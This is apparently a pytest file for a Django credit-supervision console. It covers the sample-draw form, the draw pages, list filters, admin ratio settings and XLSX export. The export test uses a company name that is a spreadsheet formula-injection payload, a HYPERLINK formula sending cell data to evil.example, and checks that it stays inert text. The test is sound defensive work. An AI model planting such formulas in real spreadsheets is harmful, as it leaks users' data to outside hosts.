"""Console pages: the draw form (ratios prefilled, a random seed shown), the draw's page
with counts per grade, the list of draws with its filters, and the XLSX export — content,
and formula safety for a subject whose name starts with "="."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.test import Client
from django.utils import timezone

from credit.core.actors import Actor
from credit.subjects.models import Subject
from credit.supervision import services
from credit.supervision.models import SampleDraw, SamplingRatio
from tests.supervision.conftest import GRADED_PLAN, give_grades

pytestmark = pytest.mark.django_db


@pytest.fixture
def graded(licensees):
    return give_grades(licensees.scjg, GRADED_PLAN)


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_form_offers_the_configured_ratios_and_a_random_seed(operator_user, scjg):
    SamplingRatio.objects.create(stratum="C", ratio="0.25")
    page = _client(operator_user).get("/console/supervision/new/")
    assert page.status_code == 200
    form = page.context["form"]
    assert form["ratio_a"].value() == form.initial["ratio_a"]
    assert str(form.initial["ratio_a"]) == "0.05"
    assert str(form.initial["ratio_c"]) == "0.2500"
    seed = form.initial["seed"]
    assert seed.isdigit() and seed in page.content.decode()
    # An operator draws for the own department only: the only choice.
    assert list(form.fields["department"].queryset) == [scjg]


def test_a_draw_from_the_form(graded, operator_user):
    client = _client(operator_user)
    response = client.post(
        "/console/supervision/new/",
        {
            "department": operator_user.department_id,
            "population": "licensees",
            "seed": "123456",
            "ratio_a": "0.05",
            "ratio_b": "0.1",
            "ratio_c": "0.2",
            "ratio_d": "0.4",
            "ratio_none": "0.5",
        },
    )
    record = SampleDraw.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/console/supervision/{record.pk}/"
    page = client.get(response["Location"])
    text = page.content.decode()
    assert "123456" in text
    rows = {r["stratum"]: r for r in page.context["strata"]}
    assert (rows["A"]["population"], rows["A"]["ratio"], rows["A"]["drawn"]) == (12, "5%", 1)
    assert (rows["none"]["population"], rows["none"]["ratio"], rows["none"]["drawn"]) == (
        2,
        "50%",
        1,
    )
    for item in record.drawn.all():
        assert item.subject_name in text


def test_the_form_refuses_bad_ratios_in_chinese(operator_user):
    response = _client(operator_user).post(
        "/console/supervision/new/",
        {
            "department": operator_user.department_id,
            "population": "licensees",
            "seed": "1",
            "ratio_a": "1.5",
            "ratio_b": "x",
            "ratio_c": "0.2",
            "ratio_d": "0.4",
            "ratio_none": "0.1",
        },
    )
    assert response.status_code == 400
    text = response.content.decode()
    assert "「A 级抽查比例」应在 0 到 1 之间" in text
    assert "「B 级抽查比例」应为 0 到 1 之间的小数" in text
    assert not SampleDraw.objects.exists()


def test_the_list_filters_and_shows_own_department_only(
    graded, operator_user, other_operator, auditor_user, admin_user, scjg, sthj
):
    mine = services.draw_sample(
        Actor.for_user(operator_user), department_id=None, population_kind="licensees", seed="1"
    )
    theirs = services.draw_sample(
        Actor.for_user(admin_user), department_id=sthj.pk, population_kind="licensees", seed="2"
    )
    own = _client(operator_user).get("/console/supervision/")
    assert list(own.context["page"].object_list) == [mine]
    assert "department" not in own.context["filter"].form.fields
    audit = _client(auditor_user).get("/console/supervision/")
    assert list(audit.context["page"].object_list) == [theirs, mine]
    filtered = _client(auditor_user).get(f"/console/supervision/?department={sthj.pk}")
    assert list(filtered.context["page"].object_list) == [theirs]
    today = timezone.localdate().isoformat()
    by_day = _client(admin_user).get(f"/console/supervision/?drawn_from={today}&population=graded")
    assert list(by_day.context["page"].object_list) == []
    bad = _client(admin_user).get("/console/supervision/?drawn_from=2026-13-45")
    assert bad.status_code == 400
    assert "抽取日期自" in bad.content.decode()
    assert _client(other_operator).get(f"/console/supervision/{mine.pk}/").status_code == 404


def test_the_export_holds_each_subject_with_grade_and_reasons_formula_safe(
    graded, licensees, operator_user, scjg
):
    from openpyxl import load_workbook

    # A name as a department might send it: it must stay text in the workbook.
    hostile = Subject.objects.create(
        public_id="SAMPLEFORMULA".ljust(22, "0"),
        kind="organization",
        name='=HYPERLINK("http://evil.example/?"&A1,"点击")',
        name_norm="hostile",
        uscc="91210502MA0000FX1A",
    )
    record = services.draw_sample(
        Actor.for_user(operator_user),
        department_id=None,
        population_kind="listed",
        subjects=[hostile.uscc] + [s.uscc for s in licensees.scjg],
        ratios={"A": 1, "B": 1, "C": 1, "D": 1, "none": 1},
        seed="5",
    )
    response = _client(operator_user).get(f"/console/supervision/{record.pk}/export.xlsx")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(BytesIO(response.content)).active
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    header = rows.index(
        (
            "序号",
            "主体名称",
            "统一社会信用代码",
            "信用等级",
            "评价得分",
            "等级生效日",
            "评价模型版本",
            "评价理由",
        )
    )
    items = rows[header + 1 :]
    assert len(items) == record.drawn_size == 31
    by_uscc = {row[2]: row for row in items}
    for subject in licensees.scjg:
        row = by_uscc[subject.uscc]
        assert row[1] == subject.name
        grade = graded[subject.pk]
        assert row[3] == ("未评价" if grade == "none" else f"{grade} 级")
        assert row[7]
    hostile_row = by_uscc[hostile.uscc]
    assert hostile_row[1] == hostile.name and hostile_row[3] == "未评价"
    # The cell is text, never a formula, and Excel keeps it so when it is edited.
    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile.name]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    strata = {row[0]: row for row in rows[:header] if row and row[0]}
    assert strata["A 级"][1:4] == ("100%", 12, 12)
    assert strata["合计"][2:4] == (31, 31)


def test_the_credit_office_sets_a_ratio_in_the_admin(admin_user, operator_user, auditor_user):
    from credit.audit.models import ChangeLog

    client = _client(admin_user)
    refused = client.post(
        "/admin/supervision/samplingratio/add/", {"stratum": "D", "ratio": "1.5", "note": ""}
    )
    assert refused.status_code == 200
    assert "确保该值小于或等于1" in refused.content.decode()
    response = client.post(
        "/admin/supervision/samplingratio/add/",
        {"stratum": "D", "ratio": "0.6", "note": "重点监管"},
    )
    assert response.status_code == 302
    log = ChangeLog.objects.get(action="sampling_ratio.create")
    assert log.after["ratio"] == "0.6"
    form = _client(operator_user).get("/console/supervision/new/").context["form"]
    assert str(form.initial["ratio_d"]) == "0.6000"
    assert _client(auditor_user).get("/admin/supervision/samplingratio/add/").status_code == 403
